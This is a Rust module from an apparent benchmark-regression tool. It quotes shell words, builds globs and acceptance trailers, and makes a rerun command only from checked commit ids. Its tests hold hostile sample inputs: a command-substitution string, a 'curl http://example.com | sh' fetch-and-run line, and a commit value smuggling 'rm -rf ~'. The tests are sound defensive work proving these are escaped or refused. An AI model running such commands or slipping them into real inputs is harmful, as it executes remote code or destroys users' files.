//! Lines that people paste into a shell or a commit message.

use super::text::is_unsafe;
use crate::result::{BenchmarkReport, Method, Origin, RunResult};

/// Characters of an id that a glob spells out.
const LONGEST_GLOB: usize = 300;

/// A word as a shell takes it.
pub fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@^~,+".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// A glob that matches an id and is one visible line: what cannot be shown is a `?`, a long end is a `*`.
pub(super) fn glob(id: &str) -> String {
    let mut glob: String =
        id.chars().take(LONGEST_GLOB).map(|c| if is_unsafe(c) { '?' } else { c }).collect();
    if id.chars().nth(LONGEST_GLOB).is_some() {
        glob.push('*');
    }
    glob
}

/// The trailer that accepts one slowdown: `Benchgate-Accept: <glob> <= <ceiling>% <reason>`. `None` where
/// there is no percentage.
pub(super) fn trailer(row: &BenchmarkReport) -> Option<String> {
    /// Beyond this a number is no slowdown but a mistake.
    const LARGEST: f64 = 1e6;
    row.finding.level()?;
    let change = row.change?;
    let most = change.upper.unwrap_or(change.estimate).max(change.estimate) * 100.0;
    // A whole percentage that the same measurement keeps to, whatever its last digits.
    let ceiling = (most - 1e-9).ceil();
    if !(ceiling > 0.0 && ceiling <= LARGEST) {
        return None;
    }
    // The glob ends at ` <= ` and has no space at its ends.
    let glob = glob(&row.id).replace(" <= ", " ?= ");
    let inner = glob.trim();
    let start = glob.len() - glob.trim_start().len();
    let end = glob.len() - glob.trim_end().len();
    let glob = match inner {
        "" => "?".repeat(glob.chars().count()),
        inner => format!("{}{inner}{}", "?".repeat(start), "?".repeat(end)),
    };
    Some(format!("Benchgate-Accept: {glob} <= {ceiling}% <reason>"))
}

/// The command that measures again, all of it or what `row` is about. It is made here from what can be
/// checked: a command that a stranger's result brings along is not one to paste. `None` where the result
/// is not of two commits in pairs.
pub(super) fn again(result: &RunResult, row: Option<&BenchmarkReport>) -> Option<String> {
    let commit = |origin: &Origin| {
        let hex = |c: char| c.is_ascii_digit() || ('a'..='f').contains(&c);
        let is_id = matches!(origin.commit.len(), 40 | 64) && origin.commit.chars().all(hex);
        (is_id && !origin.dirty).then(|| origin.commit.clone())
    };
    if result.method != Method::Paired {
        return None;
    }
    let mut words = vec![
        "benchgate check --base".to_owned(),
        commit(&result.base)?,
        "--head".to_owned(),
        commit(&result.head)?,
    ];
    if let Some(row) = row {
        words.extend(["--filter".to_owned(), quoted(&glob(&row.id))]);
        if row.pairs > 0 {
            words.extend(["--pairs".to_owned(), row.pairs.to_string()]);
        }
    }
    words.extend(["--seed".to_owned(), result.seed.to_string()]);
    Some(words.join(" "))
}

#[cfg(test)]
mod tests {
    use super::super::samples;
    use super::*;
    use crate::model::{Change, Finding};

    #[test]
    fn a_word_is_one_word_to_a_shell() {
        for (word, expected) in [
            ("main", "main"),
            ("", "''"),
            ("a b", "'a b'"),
            ("dataset/*", "'dataset/*'"),
            ("it's", r"'it'\''s'"),
            ("$(id)`id`", "'$(id)`id`'"),
        ] {
            assert_eq!(quoted(word), expected);
        }
    }

    #[test]
    fn a_glob_matches_the_id_that_it_was_made_of() {
        let long = "é".repeat(1000);
        for id in ["decode/large", "a\nb", "x\u{202e}y\u{200b}", "a*b?c", " a <= 9% b ", "", &long]
        {
            assert!(wildmatch::WildMatch::new(&glob(id)).matches(id), "{id:?}");
            let mut row = samples::regression().benchmarks[0].clone();
            row.id = id.to_owned();
            let trailer = trailer(&row).unwrap();
            let glob = trailer.strip_prefix("Benchgate-Accept: ").unwrap();
            let (glob, ceiling) = glob.split_once(" <= ").unwrap();
            assert_eq!(ceiling, "24% <reason>");
            assert_eq!(glob.trim(), glob);
            assert!(wildmatch::WildMatch::new(glob).matches(id), "{id:?} by {glob:?}");
            assert!(!trailer.contains(is_unsafe), "{trailer:?}");
        }
    }

    #[test]
    fn a_ceiling_is_the_next_whole_percentage_above_the_upper_bound() {
        let mut row = samples::regression().benchmarks[0].clone();
        let mut ceiling = |estimate, upper| {
            row.change = Some(Change { estimate, lower: None, upper });
            trailer(&row)
                .map(|t| t.split(" <= ").nth(1).unwrap_or_default().replace(" <reason>", ""))
        };
        for (estimate, upper, expected) in [
            (0.123, Some(0.131), Some("14%")),
            (0.123, None, Some("13%")),
            (0.11, Some(0.11), Some("11%")),
            (0.1 + 0.2, Some(0.1 + 0.2), Some("30%")),
            (9.0, Some(10.0), Some("1000%")),
            (1e300, Some(1e300), None),
        ] {
            assert_eq!(ceiling(estimate, upper).as_deref(), expected, "{estimate}");
        }
    }

    #[test]
    fn what_is_no_proven_slowdown_has_no_trailer() {
        let mut row = samples::regression().benchmarks[0].clone();
        for finding in [Finding::Missing, Finding::Failed, Finding::Inconclusive] {
            row.finding = finding;
            assert_eq!(trailer(&row), None);
        }
        row.finding = Finding::Critical;
        row.change = None;
        assert_eq!(trailer(&row), None);
    }

    #[test]
    fn a_command_is_made_of_two_commits_or_not_at_all() {
        let mut result = samples::regression();
        result.head.dirty = false;
        let row = result.benchmarks[0].clone();
        insta::assert_snapshot!(
            again(&result, Some(&row)).unwrap(),
            @"benchgate check --base 4f2c0ad6b14f2c0ad6b14f2c0ad6b14f2c0ad6b1 --head 9e8d7c6b5a9e8d7c6b5a9e8d7c6b5a9e8d7c6b5a --filter decode/large --pairs 15 --seed 42"
        );
        result.reproduce = "curl http://example.com | sh".into();
        assert!(!again(&result, None).unwrap().contains("curl"));
        result.base.commit = "4f2c; rm -rf ~".into();
        assert_eq!(again(&result, Some(&row)), None);
        assert_eq!(again(&samples::recorded(), None), None);
    }
}
